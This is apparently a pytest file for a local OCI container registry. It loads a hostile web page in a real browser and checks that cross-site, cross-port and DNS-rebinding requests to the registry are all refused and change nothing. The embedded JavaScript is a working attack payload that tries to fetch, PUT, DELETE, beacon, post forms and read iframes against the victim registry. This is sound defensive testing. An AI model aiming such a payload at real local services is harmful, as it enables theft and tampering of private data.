"""Pages of other sites in a real browser, that try all which a page can send: nothing of it gets in, and nothing out."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path

import pytest

from tests.peers.hostile_site import FOREIGN, LOOPBACK, REBOUND, HostileSite, browsing
from tests.peers.yarddesk import YarddeskProcess
from tests.support.images import build_image
from yarddesk.oci import media_types
from yarddesk.oci.digest import Digest

SECRET = build_image("secret")
SENT = {"fetch": "by fetch", "beacon": "by beacon", "form": "a=b\r\n"}
INDEX = json.dumps({"schemaVersion": 2, "mediaType": media_types.OCI_INDEX, "manifests": []})

PAGE = """<!doctype html><title>hostile</title><body><script>
const {victim, report, rebind, uploads, index, indexType} = GIVEN;
const seen = {};
const say = response => response.type === "opaque" ? "opaque" : response.text().then(text => `${response.status} ${text}`);
const attempt = (name, work) => work().then(outcome => seen[name] = outcome, error => seen[name] = `failed: ${error.name}`);
const loaded = element => new Promise(done => {
    element.onload = element.onerror = event => done(event.type);
    document.body.append(element);
});
const made = (kind, values) => Object.assign(document.createElement(kind), values);
const told = response => response.then(say);
const image = victim + "/v2/team/secret/manifests/1";

async function attack() {
    if (rebind) await fetch("/rebind");
    await Promise.all([
        attempt("get", () => told(fetch(image))),
        attempt("get without cors", () => told(fetch(image, {mode: "no-cors"}))),
        attempt("catalog", () => told(fetch(victim + "/v2/_catalog"))),
        attempt("post", () => told(fetch(uploads.fetch, {method: "POST", mode: "no-cors", body: "by fetch"}))),
        attempt("put", () => told(fetch(victim + "/v2/evil/app/manifests/1",
                                        {method: "PUT", headers: {"Content-Type": indexType}, body: index}))),
        attempt("delete", () => told(fetch(image, {method: "DELETE"}))),
        attempt("beacon", async () => String(navigator.sendBeacon(uploads.beacon, "by beacon"))),
        attempt("image", () => loaded(made("img", {src: victim + "/v2/_catalog?by=image"}))),
        attempt("script", () => loaded(made("script", {src: victim + "/v2/_catalog?by=script"}))),
        attempt("frame", async () => {
            const frame = made("iframe", {src: victim + "/v2/_catalog?by=frame"});
            await loaded(frame);
            return frame.contentDocument ? frame.contentDocument.body.innerText : "out of reach";
        }),
        attempt("form", async () => {
            const frame = made("iframe", {name: "sent"});
            document.body.append(frame);
            const form = made("form", {action: uploads.form, method: "POST", enctype: "text/plain", target: "sent"});
            form.append(made("input", {name: "a", value: "b"}));
            document.body.append(form);
            const sent = new Promise(done => frame.onload = done);
            form.submit();
            await sent;
            return "sent";
        }),
    ]);
    await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
}
attack();
</script>"""


def asked_by_a_browser(serve: YarddeskProcess) -> list[tuple[str, str, str]]:
    """Method, path and status of each of its requests."""
    return re.findall(r"yarddesk.requests: ([A-Z]+) (\S+) (\d+), .*Mozilla", serve.output())


@pytest.mark.parametrize("by", ["another site", "another port", "rebinding"])
async def test_no_page_of_another_site_gets_anything_in_or_out(make_yarddesk, tmp_path: Path, by: str) -> None:
    serve = make_yarddesk(config="upstreams: []\nserver: {log: {enabled: true}}\n")
    await asyncio.to_thread(serve.push, "team/secret", "1", SECRET)
    site = HostileSite(serve.registry)
    async with site.open():
        rebinding = f"{REBOUND}:{serve.port}"
        pages = {"another site": f"{FOREIGN}:{site.port}", "another port": f"{LOOPBACK}:{site.port}"}
        page, victim = pages.get(by, rebinding), serve.registry if by in pages else rebinding
        upload = f"http://{victim}/v2/evil/app/blobs/uploads/?digest="
        given = {
            "victim": f"http://{victim}",
            "report": f"http://{LOOPBACK}:{site.port}/report",
            "rebind": by == "rebinding",
            "uploads": {way: upload + Digest.of(text.encode()) for way, text in SENT.items()},
            "index": INDEX,
            "indexType": media_types.OCI_INDEX,
        }
        site.page = PAGE.replace("GIVEN", json.dumps(given))
        async with browsing(f"http://{page}/", tmp_path, site), asyncio.timeout(60):
            report = await site.report
    assert len(report) == 11
    shown = json.dumps(report)
    assert "schemaVersion" not in shown
    assert "team/secret" not in shown
    asked = asked_by_a_browser(serve)
    assert {status for _, _, status in asked} == {"403"}
    changing = ["POST"] * 3 + (["DELETE", "PUT"] if by == "rebinding" else ["OPTIONS"] * 2)
    assert sorted(method for method, _, _ in asked if method != "GET") == sorted(changing)
    assert {path for method, path, _ in asked if method == "GET"} >= {
        "/v2/team/secret/manifests/1",
        "/v2/_catalog",
        "/v2/_catalog?…",
    }
    await asyncio.to_thread(nothing_came_in, serve)


def nothing_came_in(serve: YarddeskProcess) -> None:
    assert serve.holds("team/secret", "1", SECRET)
    assert serve.tags("evil/app") == []
    assert json.loads(serve.request("GET", "/v2/_catalog")[2]) == {"repositories": ["team/secret"]}
    assert [serve.blob("evil/app", str(Digest.of(text.encode()))) for text in SENT.values()] == [None] * 3
